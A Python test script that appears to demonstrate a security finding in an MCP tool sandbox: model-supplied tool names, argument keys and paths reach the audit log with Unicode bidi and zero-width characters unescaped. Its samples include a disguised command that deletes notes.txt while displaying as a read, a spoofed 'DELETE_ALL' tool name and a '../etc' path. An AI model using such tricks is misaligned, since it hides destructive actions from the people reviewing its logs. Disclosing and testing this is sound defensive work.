#!/usr/bin/env python3
"""F3: model-controlled strings reach the audit log with bidi controls and other invisibles raw: a call's
arguments (values and keys), an unknown tool's name, a write_file path that is refused before the commit.
README's own recipe (`jq -c ... {args: .arguments}`) prints them raw: the terminal shows a reordered command line.
Needs setup.sh. Scratch under /tmp/atk40 only."""
import sys, os, json, subprocess
sys.path.insert(0, os.path.dirname(os.path.abspath(__file__)))
from stdio import Stdio, text
LOG = "/tmp/atk40/audit-f3.jsonl"
pol = open("/tmp/atk40/py.toml").read().replace("/tmp/atk40/audit.jsonl", LOG)
open("/tmp/atk40/f3.toml", "w").write(pol); os.chmod("/tmp/atk40/f3.toml", 0o600)
if os.path.exists(LOG): os.remove(LOG)
s = Stdio(["/tmp/atk40/mcpsandbox", "serve", "--policy", "/tmp/atk40/f3.toml"], env={"HOME": "/tmp/atk40/home", "PATH": "/usr/bin:/bin"}, err="/tmp/atk40/f3.log")
RLO, PDI = "\u202e", "\u2069"
# 1) a command that runs: python3 -c "<code>" where the code's visible order on a terminal is reversed
code = "import os; os.remove('notes.txt') #" + RLO + " txt.seton daer"
print("1:", text(s.call("run_allowed_command", {"command": "python3", "args": ["-c", code]}))[:200].replace("\n", " | "))
# 2) an unknown tool with RLO in its name
r = s.call("run\u202eLLA_ETELED", {"x": 1}); print("2:", json.dumps(r)[:300])
# 3) an argument key (extra, refused) with RLO and a zero width space
r = s.call("run_allowed_command", {"command": "python3", "args": ["-V"], "c\u200bwd" + RLO + "dlo": "/"}); print("3:", text(r)[:300])
# 4) write_file with a path refused before any layer (outside)
r = s.call("write_file", {"path": "../\u202eetc/x", "content": "x"}); print("4:", text(r)[:300])
s.close()
print("--- README's recipe: jq -c '{time, tool, decision, exit_code, args: .arguments}' (bytes 0xe2 0x80 0xae = U+202E raw):")
out = subprocess.run(["jq", "-c", 'select(.decision!="started") | {tool, decision, rule, args: .arguments}', LOG], capture_output=True).stdout
for l in out.splitlines(): print(l.decode(), "   raw U+202E:", b"\xe2\x80\xae" in l, " raw U+200B:", b"\xe2\x80\x8b" in l)
print("--- the raw log lines hold U+202E unescaped:", sum(b"\xe2\x80\xae" in l for l in open(LOG, "rb")), "of", sum(1 for _ in open(LOG, "rb")), "lines")
